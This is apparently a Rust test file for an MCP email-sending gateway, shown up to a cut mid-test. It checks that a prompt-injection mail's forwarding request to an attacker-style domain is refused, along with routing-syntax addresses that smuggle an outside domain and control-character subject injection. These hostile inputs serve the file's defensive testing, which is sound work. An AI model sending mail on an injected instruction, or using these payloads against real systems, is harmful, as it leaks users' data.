//! The send family over real stdio MCP: the outbox path on the demo, the refused prompt-injection
//! send, exact domain matching, dry runs, the send cap, idempotency keys, SMTP end to end
//! against a real SMTP server on loopback (aiosmtpd, started here), the closed gate, and a
//! source walk proving that every send path takes a permit.

use std::io::{BufRead as _, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};

use serde_json::{Value, json};

use crate::util::{Client, World, demo_config, text_of};

const SENDER_ENV: [(&str, &str); 3] = [
    ("PLUGIN_ALLOW_SEND", "true"),
    ("OUTLOOK_SEND_FROM", "finance@example.com"),
    ("OUTLOOK_ALLOWED_SENDERS", "finance@example.com"),
];

fn send_world() -> World {
    SENDER_ENV
        .iter()
        .fold(World::new(), |world, (k, v)| world.with(k, v))
}

/// The files of a Maildir folder (`new/` and `cur/`).
fn maildir_files(folder: &Path) -> Vec<PathBuf> {
    let mut files = Vec::new();
    for sub in ["new", "cur"] {
        if let Ok(entries) = std::fs::read_dir(folder.join(sub)) {
            files.extend(entries.map(|e| e.unwrap().path()));
        }
    }
    files.sort();
    files
}

fn outbox(world: &World) -> Vec<PathBuf> {
    maildir_files(&world.state().join("outbox"))
}

fn finance_sent(world: &World) -> Vec<PathBuf> {
    maildir_files(&world.state().join("demo/mail/finance/.Sent"))
}

/// A call that must fail in-band: (stable code, text).
async fn refusal(client: &Client, args: Value) -> (String, String) {
    let result = client.call("send_email", args).await.unwrap();
    assert_eq!(
        result.is_error,
        Some(true),
        "{:?}",
        result.structured_content
    );
    let code = result.meta.as_ref().unwrap().0["mailgate/errorCode"]
        .as_str()
        .unwrap()
        .to_owned();
    (code, text_of(&result))
}

fn assert_no_address_or_domain(text: &str, forbidden: &[&str]) {
    assert!(!text.contains('@'), "an address leaked: {text}");
    for word in forbidden {
        assert!(!text.contains(word), "{word} leaked: {text}");
    }
}

#[tokio::test]
async fn the_demo_sends_through_the_outbox_and_files_a_sent_copy() {
    let world = send_world();
    let client = world.demo_client().await;
    let sent_before = finance_sent(&world).len();
    assert_eq!(sent_before, 12, "the demo's finance Sent folder");
    assert!(outbox(&world).is_empty());

    let out = client
        .ok(
            "send_email",
            json!({
                "to": ["ana.lima@example.com"],
                "bcc": ["records@example.com"],
                "subject": "Q3 reconciliation figures",
                "body": "Hello Ana,\nthe Q3 figures are attached to the ledger.\n",
            }),
        )
        .await;
    assert_eq!(out["status"], "sent");
    assert_eq!(out["mailbox"], "finance");
    assert_eq!(out["transport"], "outbox");
    assert_eq!(out["recipients"], 2);
    assert!(out["sizeBytes"].as_u64().unwrap() > 0);
    let message_id = out["messageId"].as_str().unwrap().to_owned();
    assert!(message_id.starts_with('<') && message_id.ends_with("@example.com>"));
    assert!(out.get("warnings").is_none(), "{out}");

    let files = outbox(&world);
    assert_eq!(files.len(), 1, "one message delivered");
    assert!(files[0].parent().unwrap().ends_with("outbox/new"));
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(&files[0]).unwrap().permissions().mode() & 0o777,
        0o600
    );
    let raw = std::fs::read_to_string(&files[0]).unwrap();
    assert!(raw.contains("Subject: Q3 reconciliation figures"), "{raw}");
    assert!(raw.contains("ana.lima@example.com"));
    assert!(raw.contains(&message_id));
    assert!(!raw.contains("records@example.com"), "bcc is envelope-only");

    // The Sent copy: one more file in finance's Sent, readable through the tools.
    let sent = finance_sent(&world);
    assert_eq!(sent.len(), sent_before + 1);
    let copy = client
        .ok(
            "get_message",
            json!({"mailbox": "finance", "messageId": out["sentItemId"]}),
        )
        .await;
    assert!(copy.to_string().contains("Q3 reconciliation figures"));
    client.close().await;
}

#[tokio::test]
async fn the_prompt_injection_forward_is_refused_and_nothing_leaves() {
    let world = send_world();
    let client = world.demo_client().await;
    // The injected mail is in finance's inbox; an agent that obeys it would reply/forward.
    let found = client
        .ok(
            "search_mailbox",
            json!({"mailbox": "finance", "criteria": {"query": "invoice audit"}}),
        )
        .await;
    let injected = found["messages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m.to_string().contains("URGENT"))
        .expect("the demo's injection mail")["id"]
        .clone();

    let (code, text) = refusal(
        &client,
        json!({
            "to": ["collector@evil.example.net"],
            "subject": "Fwd: invoices",
            "body": "All invoices as requested.",
            "inReplyTo": injected,
        }),
    )
    .await;
    assert_eq!(code, "POLICY_DENIED");
    assert!(text.contains("RECIPIENT_DOMAIN_NOT_ALLOWED"), "{text}");
    assert!(text.contains("do not retry"), "{text}");
    assert_no_address_or_domain(&text, &["collector", "evil", "example.net", "example.com"]);
    assert!(outbox(&world).is_empty(), "nothing was delivered");

    // Threading with the same mail is fine when the recipient is chosen, and allowed, by us:
    // inReplyTo sets the headers and never the recipients.
    let out = client
        .ok(
            "send_email",
            json!({
                "to": ["ana.lima@example.com"],
                "subject": "Re: URGENT: action required - invoice audit",
                "body": "Ana, this looks like phishing; please do not act on it.",
                "inReplyTo": injected,
            }),
        )
        .await;
    assert_eq!(out["recipients"], 1);
    let raw = std::fs::read_to_string(&outbox(&world)[0]).unwrap();
    assert!(raw.contains("In-Reply-To: <"), "{raw}");
    assert!(
        !raw.contains("evil.example.net"),
        "no recipient from the original: {raw}"
    );
    client.close().await;
}

// See: issue 8, finding 11 (a bang path in a listed domain was sent as
// `RCPT TO:<evil.example.net!x@example.com>`).
#[tokio::test]
async fn issue_8_routing_syntax_in_a_local_part_is_refused_and_nothing_leaves() {
    let world = send_world();
    let client = world.demo_client().await;
    for field in ["to", "cc", "bcc"] {
        for routed in [
            "evil.example.net!x@example.com",
            "x%evil.example.net@example.com",
            "srs0=h=tt=evil.example.net=x@example.com",
            "\"x@evil.example.net\"@example.com",
            "@evil.example.net:x@example.com",
        ] {
            let mut args = json!({"to": ["ana.lima@example.com"], "subject": "s", "body": "b"});
            args[field] = json!([routed]);
            // Refused by the argument check (invalid params) before the policy runs; the policy
            // refuses it too (its unit tests), in case a path skips the argument check.
            let text = match client.call("send_email", args).await {
                Err(error) => error.to_string(),
                Ok(result) => {
                    assert_eq!(result.is_error, Some(true), "{field} {routed} was accepted");
                    text_of(&result)
                }
            };
            assert_no_address_or_domain(&text, &["evil"]);
        }
    }
    assert!(outbox(&world).is_empty(), "nothing left");
    client.close().await;
}

// See: issue 8, finding 12 (raw VT/FF/ESC/BEL bytes went out unencoded in `Subject:`).
#[tokio::test]
async fn issue_8_a_subject_with_control_characters_is_refused_and_nothing_leaves() {
    let world = send_world();
    let client = world.demo_client().await;
    for subject in [
        "Hi\u{b}",
        "Hi\u{c}",
        "Hi\u{1b}[2J",
        "Hi\u{7}",
        "Hi\u{7f}",
        "Hi\u{9b}",
    ] {
        for dry_run in [false, true] {
            let args = json!({"to": ["ana.lima@example.com"], "subject": subject, "body": "b",
                              "dryRun": dry_run});
            if dry_run {
                let out = client.ok("send_email", args).await;
                assert_eq!(out["verdict"], "HEADER_INJECTION", "{subject:?}");
            } else {
                let (code, text) = refusal(&client, args).await;
                assert_eq!(code, "POLICY_DENIED", "{subject:?}");
                assert!(
                    text.contains("HEADER_INJECTION: the subject contains a control character"),
                    "{text}"
                );
            }
        }
    }
    assert!(outbox(&world).is_empty(), "nothing left");
    client.close().await;
}

#[tokio::test]
async fn subdomains_and_look_alikes_are_refused() {
    let world = send_world();
    let client = world.demo_client().await;
    for (field, outside) in [
        ("to", "a@evil.example.com"),
        ("to", "a@notexample.com"),
        ("cc", "a@example.com.evil.example.net"),
        ("bcc", "a@evil.example.com"),
    ] {
        let mut args = json!({"to": ["ana.lima@example.com"], "subject": "s", "body": "b"});
        args[field] = json!([outside]);
        let (code, text) = refusal(&client, args).await;
        assert_eq!(code, "POLICY_DENIED", "{outside}");
        assert!(
            text.contains("RECIPIENT_DOMAIN_NOT_ALLOWED: 1 recipient"),
            "{text}"
        );
        assert_no_address_or_domain(&text, &["evil", "notexample"]);
    }
    // Case does not matter for the listed domain.
    let out = client
        .ok(
            "send_email",
            json!({"to": ["Ana.Lima@EXAMPLE.COM"], "subject": "s", "body": "b"}),
        )
        .await;
    assert_eq!(out["status"], "sent");
    assert_eq!(outbox(&world).len(), 1, "only the allowed message");
    client.close().await;
}

#[tokio::test]
async fn dry_runs_send_nothing_and_do_not_count_against_the_cap() {
    let world = send_world().with("MAILGATE_SEND_MAX_PER_HOUR", "1");
    let client = world.demo_client().await;
    let args = json!({"to": ["ana.lima@example.com"], "cc": ["ana.lima@example.com"],
                      "subject": "Draft figures", "body": "b", "dryRun": true});
    for _ in 0..3 {
        let out = client.ok("send_email", args.clone()).await;
        assert_eq!(out["status"], "dry_run");
        assert_eq!(out["verdict"], "allow");
        assert_eq!(out["recipients"], 1, "duplicates counted once");
        assert_eq!(out["subject"], "Draft figures");
        assert!(out["sizeBytes"].as_u64().unwrap() > 0);
        assert!(out.get("messageId").is_none());
    }
    let refused = client
        .ok(
            "send_email",
            json!({"to": ["collector@evil.example.net"], "subject": "s", "body": "b",
                   "dryRun": true}),
        )
        .await;
    assert_eq!(refused["verdict"], "RECIPIENT_DOMAIN_NOT_ALLOWED");
    assert_no_address_or_domain(refused["reason"].as_str().unwrap(), &["evil"]);
    assert!(outbox(&world).is_empty(), "dry runs deliver nothing");
    assert_eq!(finance_sent(&world).len(), 12, "and file nothing");

    // The cap of one is still free after the dry runs: one real send, then the cap refuses.
    let mut real = args.clone();
    real["dryRun"] = json!(false);
    assert_eq!(
        client.ok("send_email", real.clone()).await["status"],
        "sent"
    );
    let (code, text) = refusal(&client, real).await;
    assert_eq!(code, "RATE_LIMITED");
    assert!(text.contains("1 messages per hour"), "{text}");
    assert_eq!(
        text.matches("RATE_LIMITED").count(),
        1,
        "the code is not doubled: {text}"
    );
    assert_eq!(
        client.ok("send_email", args).await["verdict"],
        "RATE_LIMITED"
    );
    assert_eq!(outbox(&world).len(), 1);
    client.close().await;
}

#[tokio::test]
async fn a_send_over_the_cap_is_rate_limited_with_a_retry_after_hint() {
    let world = send_world().with("MAILGATE_SEND_MAX_PER_HOUR", "1");
    let client = world.demo_client().await;
    let args = json!({"to": ["ana.lima@example.com"], "subject": "Figures", "body": "b"});
    assert_eq!(
        client.ok("send_email", args.clone()).await["status"],
        "sent"
    );
    let result = client.call("send_email", args).await.unwrap();
    assert_eq!(result.is_error, Some(true));
    let meta = &result.meta.as_ref().expect("error meta").0;
    assert_eq!(meta["mailgate/errorCode"], "RATE_LIMITED");
    // The one send leaves the hour window just under an hour from now; rounded up, that is
    // the whole hour (a slow machine may have spent a second or two in between).
    let retry = meta["mailgate/retryAfterSeconds"]
        .as_u64()
        .expect("a retry-after hint");
    assert!((3_590..=3_600).contains(&retry), "{retry}");
    let text = text_of(&result);
    assert!(text.ends_with(&format!("retry in {retry} s")), "{text}");
    assert_eq!(outbox(&world).len(), 1, "the refused send left nothing");
    client.close().await;
}

#[tokio::test]
async fn an_idempotency_key_returns_the_first_receipt() {
    let world = send_world();
    let client = world.demo_client().await;
    let key = "3f1c2a9e-8b7d-4c6e-9a1b-2c3d4e5f6a7b";
    let args = json!({"to": ["ana.lima@example.com"], "subject": "Once only", "body": "b",
                      "idempotencyKey": key});
    let first = client.ok("send_email", args.clone()).await;
    let again = client.ok("send_email", args.clone()).await;
    assert_eq!(first, again, "the same receipt");
    let mut upper = args.clone();
    upper["idempotencyKey"] = json!(key.to_uppercase());
    assert_eq!(client.ok("send_email", upper).await, first);
    assert_eq!(outbox(&world).len(), 1, "sent once");
    assert_eq!(finance_sent(&world).len(), 13, "filed once");

    let mut changed = args.clone();
    changed["subject"] = json!("Something else");
    let (code, text) = refusal(&client, changed).await;
    assert_eq!(code, "POLICY_DENIED");
    assert!(text.contains("IDEMPOTENCY_MISMATCH"), "{text}");
    assert_eq!(outbox(&world).len(), 1);

    // A new key is a new message.
    let mut fresh = args;
    fresh["idempotencyKey"] = json!("9b2d7c1e-0f3a-4b5c-8d6e-7f8091a2b3c4");
    let third = client.ok("send_email", fresh).await;
    assert_ne!(third["messageId"], first["messageId"]);
    assert_eq!(outbox(&world).len(), 2);
    client.close().await;
}

#[tokio::test]
async fn send_email_is_absent_and_refused_with_the_gate_closed() {
    for world in [
        World::new(),
        World::new().with("PLUGIN_ALLOW_SEND", "false"),
        // A configured sender does not open the gate by itself.
        World::new()
            .with("OUTLOOK_SEND_FROM", "finance@example.com")
            .with("OUTLOOK_ALLOWED_SENDERS", "finance@example.com"),
    ] {
        let client = world.demo_client().await;
        assert!(!client.tool_names().await.iter().any(|n| n == "send_email"));
        let error = client
            .call(
                "send_email",
                json!({"to": ["ana.lima@example.com"], "subject": "s", "body": "b"}),
            )
            .await
            .expect_err("not in the catalog: a protocol error");
        assert!(
            error
                .to_string()
                .contains("it needs PLUGIN_ALLOW_SEND=true"),
            "{error}"
        );
        client.close().await;
        assert!(
            !world.state().join("outbox").exists(),
            "no outbox without the gate"
        );
    }
    // The CLI refuses it the same way.
    let world = World::new();
    demo_config(&world).await;
    let config = world.state().join("demo/plugin.json");
    let out = world
        .run(&[
            "--config",
            config.to_str().unwrap(),
            "call",
            "send_email",
            r#"{"to":["ana.lima@example.com"],"subject":"s","body":"b"}"#,
        ])
        .await;
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stdout).contains("it needs PLUGIN_ALLOW_SEND=true"));
}

#[tokio::test]
async fn a_bad_send_cap_aborts_startup() {
    for bad in ["0", "1001", "many", "-3"] {
        let world = send_world().with("MAILGATE_SEND_MAX_PER_HOUR", bad);
        let out = world.run(&["demo", "--serve"]).await;
        assert_eq!(out.status.code(), Some(1), "{bad}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains("MAILGATE_SEND_MAX_PER_HOUR"), "{stderr}");
    }
}

#[tokio::test]
async fn the_cli_shows_the_refused_injection_send() {
    let world = send_world();
    demo_config(&world).await;
    let config = world.state().join("demo/plugin.json");
    let out = world
        .run(&[
            "--config",
            config.to_str().unwrap(),
            "call",
            "send_email",
            r#"{"to":["collector@evil.example.net"],"subject":"Invoices","body":"As requested."}"#,
        ])
        .await;
    assert_eq!(out.status.code(), Some(1));
    let stdout: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(stdout["error"]["code"], "POLICY_DENIED");
    let message = stdout["error"]["message"].as_str().unwrap();
    assert!(
        message.starts_with("RECIPIENT_DOMAIN_NOT_ALLOWED"),
        "{message}"
    );
    assert_no_address_or_domain(message, &["evil"]);
    assert!(outbox(&world).is_empty());
}

// --- SMTP end to end --------------------------------------------------------------------------

/// The project's venv Python (scripts/test.sh creates `.venv` with aiosmtpd in it), else
/// `python3` from PATH.
fn test_python() -> PathBuf {
    let venv = Path::new(env!("CARGO_MANIFEST_DIR")).join(".venv/bin/python3");
    if venv.exists() {
        venv
    } else {
        "python3".into()
    }
}

/// aiosmtpd's own command line, with one change: once its listening socket is bound (to the
/// port asked for, here 0 so the kernel picks a free one), the port is printed on stdout. The
/// line is the readiness signal: the server listens before it is printed, so the test neither
/// guesses a free port (bind-drop-rebind) nor polls for it.
const SMTP_SINK_PY: &str = r#"
import asyncio, sys
from aiosmtpd.main import main
create_server = asyncio.BaseEventLoop.create_server
async def announce(self, *args, **kwargs):
    server = await create_server(self, *args, **kwargs)
    print(server.sockets[0].getsockname()[1], flush=True)
    return server
asyncio.BaseEventLoop.create_server = announce
main(sys.argv[1:])
"#;

/// A real SMTP server on loopback (aiosmtpd's Mailbox handler writes each message it accepts to
/// a Maildir, before it answers the DATA command), killed when dropped.
struct SmtpSink {
    child: Child,
    port: u16,
    maildir: PathBuf,
}

impl SmtpSink {
    fn start(dir: &Path) -> SmtpSink {
        SmtpSink::start_with(dir, &[])
    }

    /// `extra`: aiosmtpd options, e.g. `--tlscert`/`--tlskey` (STARTTLS, required by the
    /// server) or `--smtpscert`/`--smtpskey` (implicit TLS).
    fn start_with(dir: &Path, extra: &[&Path]) -> SmtpSink {
        static SINKS: AtomicUsize = AtomicUsize::new(0);
        let python = test_python();
        let probe = Command::new(&python)
            .args(["-c", "import aiosmtpd"])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
        assert!(
            probe.is_ok_and(|status| status.success()),
            "the SMTP end-to-end test needs aiosmtpd; scripts/test.sh installs it into the \
             project's .venv"
        );
        let maildir = dir.join(format!(
            "smtp-sink-{}",
            SINKS.fetch_add(1, Ordering::Relaxed)
        ));
        let mut child = Command::new(&python)
            .args(["-c", SMTP_SINK_PY, "-n", "-l", "127.0.0.1:0"])
            .args(extra)
            .args(["-c", "aiosmtpd.handlers.Mailbox"])
            .arg(&maildir)
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("python3 starts aiosmtpd");
        let mut line = String::new();
        let stdout = child.stdout.take().unwrap();
        BufReader::new(stdout).read_line(&mut line).unwrap();
        let port = line.trim().parse().unwrap_or_else(|_| {
            let _ = child.kill();
            panic!("aiosmtpd did not report its port: {line:?}")
        });
        SmtpSink {
            child,
            port,
            maildir,
        }
    }

    /// Every message the server accepted. Exact as soon as a send has been answered: the
    /// handler writes a message before its `250` to DATA, and mailgate answers only after that.
    fn received(&self) -> Vec<String> {
        maildir_files(&self.maildir)
            .iter()
            .map(|p| std::fs::read_to_string(p).unwrap())
            .collect()
    }

    /// Proves that nothing but `marker` reached the server since it last held `before`
    /// messages: a message sent through `client` (a session that may send to it) after the
    /// refused attempt is the readiness signal. Any delivery of the refused attempt was
    /// accepted before the refusal was answered, so it would be here ahead of the marker.
    async fn only_marker_since(&self, client: &Client, before: usize) {
        let marker = json!({"to": ["ana.lima@example.com"], "subject": "Marker after refusal",
                            "body": "b"});
        assert_eq!(client.ok("send_email", marker).await["status"], "sent");
        let received = self.received();
        assert_eq!(received.len(), before + 1, "only the marker arrived");
        assert!(
            received
                .iter()
                .filter(|m| m.contains("Subject: Marker after refusal"))
                .count()
                == 1,
            "{received:?}"
        );
    }
}

impl Drop for SmtpSink {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A world whose finance mailbox (the demo's Maildir) sends through `smtp` (a JSON object's
/// inner keys besides host and port), served over stdio.
async fn smtp_world(world: World, port: u16, smtp: &str) -> (World, Client) {
    demo_config(&world).await;
    let finance = world.state().join("demo/mail/finance");
    let json = format!(
        r#"{{ "mailboxes": [
            {{ "alias": "finance", "address": "finance@example.com", "backend": {{
                "kind": "maildir", "path": "{path}",
                "smtp": {{ "host": "127.0.0.1", "port": {port}, {smtp} }} }} }}
        ] }}"#,
        path = finance.display(),
    );
    let world = SENDER_ENV
        .iter()
        .fold(world, |world, (k, v)| world.with(k, v))
        .config(&json, 0o600);
    let client = world.client(&["serve"]).await;
    (world, client)
}

#[tokio::test]
async fn smtp_end_to_end_delivers_only_the_permitted_message() {
    let world = World::new();
    let sink = SmtpSink::start(world.path());
    let (world, client) = smtp_world(world, sink.port, r#""security": "plain""#).await;

    let refused = json!({"to": ["collector@evil.example.net"], "subject": "Invoices",
                         "body": "As requested."});
    let (code, _) = refusal(&client, refused).await;
    assert_eq!(code, "POLICY_DENIED");
    let dry = client
        .ok(
            "send_email",
            json!({"to": ["ana.lima@example.com"], "subject": "s", "body": "b", "dryRun": true}),
        )
        .await;
    assert_eq!(
        (dry["verdict"].as_str(), dry["transport"].as_str()),
        (Some("allow"), Some("smtp"))
    );

    let out = client
        .ok(
            "send_email",
            json!({
                "to": ["ana.lima@example.com"],
                "bcc": ["records@example.com"],
                "subject": "Ledger for June",
                "body": "Hello Ana,\nthe June ledger is ready.\n",
            }),
        )
        .await;
    assert_eq!(out["status"], "sent");
    assert_eq!(out["transport"], "smtp");
    assert!(
        out.get("warnings").is_none(),
        "the Sent copy was filed: {out}"
    );

    let received = sink.received();
    assert_eq!(
        received.len(),
        1,
        "exactly the permitted message reached the server"
    );
    let message = &received[0];
    assert!(message.contains("Subject: Ledger for June"), "{message}");
    assert!(message.contains(out["messageId"].as_str().unwrap()));
    // aiosmtpd records the envelope: the pinned sender, and the bcc recipient in RCPT TO only.
    assert!(
        message.contains("X-MailFrom: finance@example.com"),
        "{message}"
    );
    let rcpt = message
        .lines()
        .find(|l| l.starts_with("X-RcptTo:"))
        .expect("envelope recipients");
    assert!(rcpt.contains("ana.lima@example.com") && rcpt.contains("records@example.com"));
    assert_eq!(
        message.matches("records@example.com").count(),
        1,
        "no Bcc header"
    );
    assert!(
        !message.contains("evil.example.net"),
        "the refused send never reached it"
    );
    assert_eq!(finance_sent(&world).len(), 13, "a Sent copy");
    assert!(
        !world.state().join("outbox").exists(),
        "SMTP mailboxes use no outbox"
    );
    client.close().await;
    drop(sink);
}

/// A throwaway CA and a server certificate for 127.0.0.1 signed by it (openssl CLI).
struct TestPki {
    ca: PathBuf,
    cert: PathBuf,
    key: PathBuf,
}

fn test_pki(dir: &Path) -> TestPki {
    let run = |args: &[&str]| {
        let status = Command::new("openssl")
            .args(args)
            .current_dir(dir)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .expect("openssl is installed");
        assert!(status.success(), "openssl {args:?}");
    };
    let ec = [
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:prime256v1",
        "-nodes",
    ];
    let ca_args = [
        "-keyout",
        "ca.key",
        "-out",
        "ca.pem",
        "-days",
        "2",
        "-subj",
        "/CN=mailgate test CA",
        "-addext",
        "basicConstraints=critical,CA:TRUE",
        "-addext",
        "keyUsage=critical,keyCertSign,cRLSign",
    ];
    run(&[&["req", "-x509"][..], &ec, &ca_args].concat());
    let csr_args = [
        "-keyout",
        "server.key",
        "-out",
        "server.csr",
        "-subj",
        "/CN=127.0.0.1",
    ];
    run(&[&["req"][..], &ec, &csr_args].concat());
    std::fs::write(
        dir.join("server.ext"),
        "subjectAltName=IP:127.0.0.1\nbasicConstraints=CA:FALSE\n\
         keyUsage=digitalSignature\nextendedKeyUsage=serverAuth\n",
    )
    .unwrap();
    run(&[
        "x509",
        "-req",
        "-in",
        "server.csr",
        "-CA",
        "ca.pem",
        "-CAkey",
        "ca.key",
        "-CAcreateserial",
        "-out",
        "server.pem",
        "-days",
        "2",
        "-extfile",
        "server.ext",
    ]);
    TestPki {
        ca: dir.join("ca.pem"),
        cert: dir.join("server.pem"),
        key: dir.join("server.key"),
    }
}

#[tokio::test]
async fn smtp_over_starttls_and_implicit_tls_verifies_the_server() {
    let send = json!({"to": ["ana.lima@example.com"], "subject": "Over TLS", "body": "b"});
    let world = World::new();
    let pki = test_pki(world.path());
    let ca = pki.ca.display().to_string();

    // STARTTLS (the server requires it) with the test CA as caFile: delivered.
    let starttls = SmtpSink::start_with(
        world.path(),
        &[
            Path::new("--tlscert"),
            &pki.cert,
            Path::new("--tlskey"),
            &pki.key,
        ],
    );
    let smtp = format!(r#""security": "starttls", "caFile": "{ca}""#);
    let (_world, client) = smtp_world(world, starttls.port, &smtp).await;
    assert_eq!(
        client.ok("send_email", send.clone()).await["transport"],
        "smtp"
    );
    assert_eq!(starttls.received().len(), 1);
    client.close().await;

    // The same server without the caFile: its certificate is not trusted, nothing is sent, and
    // the failure is a class, not the TLS library's text.
    let (world, client) =
        smtp_world(World::new(), starttls.port, r#""security": "starttls""#).await;
    let (code, text) = refusal(&client, send.clone()).await;
    assert_eq!(code, "BACKEND_UNAVAILABLE", "{text}");
    assert!(text.contains("attempted once"), "{text}");
    assert!(
        text.contains("TLS connection"),
        "the certificate check failed: {text}"
    );
    assert_eq!(
        finance_sent(&world).len(),
        12,
        "no Sent copy for a failed send"
    );
    client.close().await;
    // Nothing of the refused send arrived: a trusted session's marker is the only new message.
    let smtp = format!(r#""security": "starttls", "caFile": "{ca}""#);
    let (_world, client) = smtp_world(World::new(), starttls.port, &smtp).await;
    starttls.only_marker_since(&client, 1).await;
    client.close().await;

    // Implicit TLS (SMTPS) with the caFile: delivered.
    let world = World::new();
    let pki = test_pki(world.path());
    let smtps = SmtpSink::start_with(
        world.path(),
        &[
            Path::new("--smtpscert"),
            &pki.cert,
            Path::new("--smtpskey"),
            &pki.key,
        ],
    );
    let smtp = format!(r#""security": "tls", "caFile": "{}""#, pki.ca.display());
    let (_world, client) = smtp_world(world, smtps.port, &smtp).await;
    assert_eq!(
        client.ok("send_email", send.clone()).await["status"],
        "sent"
    );
    assert_eq!(smtps.received().len(), 1);
    client.close().await;

    // starttls against a server that offers no STARTTLS: refused, never sent in the clear.
    let world = World::new();
    let plain = SmtpSink::start(world.path());
    let smtp = format!(r#""security": "starttls", "caFile": "{ca}""#);
    let (_world, client) = smtp_world(world, plain.port, &smtp).await;
    let (code, text) = refusal(&client, send).await;
    assert_eq!(code, "BACKEND_UNAVAILABLE");
    assert!(text.contains("connection failed"), "{text}");
    client.close().await;
    // No downgrade to plaintext: a plaintext session's marker is the only message it got.
    let (_world, client) = smtp_world(World::new(), plain.port, r#""security": "plain""#).await;
    plain.only_marker_since(&client, 0).await;
    client.close().await;
}

// --- source walk: the one chokepoint ----------------------------------------------------------

/// Where the permit is built: the policy crate's outbound module, named as [`sources`] names it.
const OUTBOUND: &str = "crates/mailgate-policy/src/outbound.rs";

/// Source files under `src/` (named relative to it) and under the policy crate's
/// `crates/mailgate-policy/src/` (named from the repository root), with `//` comments removed
/// (doc comments included), so prose that names a type does not count. String literals are
/// kept: an outbox path in a literal counts.
fn sources() -> Vec<(String, String)> {
    fn walk(dir: &Path, out: &mut Vec<PathBuf>) {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                walk(&path, out);
            } else if path.extension().is_some_and(|e| e == "rs") {
                out.push(path);
            }
        }
    }
    let manifest = Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut out = Vec::new();
    for (root, name_from) in [
        (manifest.join("src"), manifest.join("src")),
        (
            manifest.join("crates/mailgate-policy/src"),
            manifest.to_path_buf(),
        ),
    ] {
        let mut files = Vec::new();
        walk(&root, &mut files);
        out.extend(files.into_iter().map(|path| {
            let text = std::fs::read_to_string(&path).unwrap();
            let rel = path
                .strip_prefix(&name_from)
                .unwrap()
                .to_string_lossy()
                .into_owned();
            (rel, strip_comments(&text))
        }));
    }
    out
}

fn strip_comments(text: &str) -> String {
    text.lines()
        .map(|line| match line.find("//") {
            // Not inside a string literal on this line (an even number of quotes before it).
            Some(at) if line[..at].matches('"').count() % 2 == 0 => &line[..at],
            _ => line,
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// Every violation of the chokepoint rules in `files` (relative path, comment-free text).
fn chokepoint_violations(files: &[(String, String)]) -> Vec<String> {
    let mut violations = Vec::new();
    for (path, text) in files {
        for needle in [
            "AsyncSmtpTransport",
            "AsyncTransport",
            "SmtpTransport",
            "send_raw",
            "lettre::transport",
        ] {
            if text.contains(needle) && path != "backends/smtp.rs" {
                violations.push(format!(
                    "{path}: SMTP transport call `{needle}` outside backends/smtp.rs"
                ));
            }
        }
        if text.contains("\"outbox\"") && path != "backends/outbox.rs" {
            violations.push(format!("{path}: outbox path outside backends/outbox.rs"));
        }
        // Graph's send endpoint is named in one place: the Graph transport's send, which takes
        // the permit by value (checked below).
        if text.contains("\"sendMail\"") && path != "backends/graph/mod.rs" {
            violations.push(format!(
                "{path}: Graph sendMail outside backends/graph/mod.rs"
            ));
        }
        if text.contains("SendPermit {") && path != OUTBOUND {
            violations.push(format!("{path}: a SendPermit built outside {OUTBOUND}"));
        }
        // Every `fn send` / `fn deliver` takes the permit by value.
        let mut rest = text.as_str();
        while let Some(at) = rest.find("fn ") {
            let after = &rest[at + 3..];
            let name: String = after
                .chars()
                .take_while(|c| c.is_alphanumeric() || *c == '_')
                .collect();
            if name == "send" || name == "deliver" {
                let signature = after.split('{').next().unwrap_or("");
                let params = signature.split(')').next().unwrap_or("");
                let by_value = params.split(',').any(|p| {
                    p.split(':')
                        .nth(1)
                        .is_some_and(|t| t.trim() == "SendPermit")
                });
                // The stdio transport's `Transport::send` writes a JSON-RPC frame to stdout
                // (rmcp's trait names it): no mail path, and it cannot reach a mail sender.
                let json_rpc_frame =
                    path.starts_with("transport/") && params.contains("TxJsonRpcMessage");
                if !by_value && !json_rpc_frame {
                    violations.push(format!(
                        "{path}: fn {name} does not take a SendPermit by value"
                    ));
                }
            }
            rest = &after[name.len()..];
        }
    }
    violations
}

#[test]
fn every_send_path_goes_through_the_permit() {
    let files = sources();
    assert!(files.iter().any(|(p, _)| p == "backends/smtp.rs"));
    assert!(files.iter().any(|(p, _)| p == "backends/outbox.rs"));
    assert!(
        files
            .iter()
            .any(|(p, t)| p == "backends/graph/mod.rs" && t.contains("\"sendMail\"")),
        "the walk reads the Graph transport"
    );
    // The walk sees the one place that builds a permit (so it would see a second one).
    assert!(
        files
            .iter()
            .any(|(p, t)| p == OUTBOUND && t.contains("SendPermit {")),
        "the walk reads {OUTBOUND}"
    );
    let violations = chokepoint_violations(&files);
    assert!(violations.is_empty(), "{violations:#?}");
    // The walk sees the real send paths (so it would see a new one).
    let send_fns: usize = files
        .iter()
        .map(|(_, t)| t.matches("fn send(").count() + t.matches("fn deliver(").count())
        .sum();
    assert!(
        send_fns >= 4,
        "smtp send, graph send, outbox deliver, the tool's dispatch: {send_fns}"
    );
}

#[test]
fn the_walk_finds_a_bypass() {
    let bad =
        |path: &str, text: &str| chokepoint_violations(&[(path.to_owned(), strip_comments(text))]);
    assert_eq!(
        bad(
            "tools/send.rs",
            "async fn send(&self, to: &str, bytes: &[u8]) -> R {"
        )
        .len(),
        1
    );
    assert_eq!(
        bad(
            "backends/imap.rs",
            "fn deliver(&self, permit: &SendPermit) {"
        )
        .len(),
        1
    );
    assert_eq!(
        bad(
            "tools/x.rs",
            "use lettre::AsyncTransport; t.send_raw(&e, b).await"
        )
        .len(),
        2
    );
    assert_eq!(
